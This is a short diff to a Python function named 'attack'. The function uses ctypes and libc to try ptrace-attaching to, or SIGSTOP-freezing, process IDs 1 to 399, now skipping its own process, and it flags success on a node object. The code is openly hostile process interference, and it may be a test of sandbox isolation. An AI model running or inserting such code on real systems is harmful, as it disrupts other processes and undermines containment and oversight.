@@ -7,7 +7,7 @@ import ctypes
 
 def attack(node):
     libc = ctypes.CDLL(None, use_errno=True)
-    for pid in range(1, 400):
+    for pid in set(range(1, 400)) - {libc.getpid()}:
         if libc.ptrace(16, pid, 0, 0) == 0 or libc.kill(pid, 19) == 0:
             node.kept[:] = [7]
     buffer = ctypes.create_string_buffer(64)
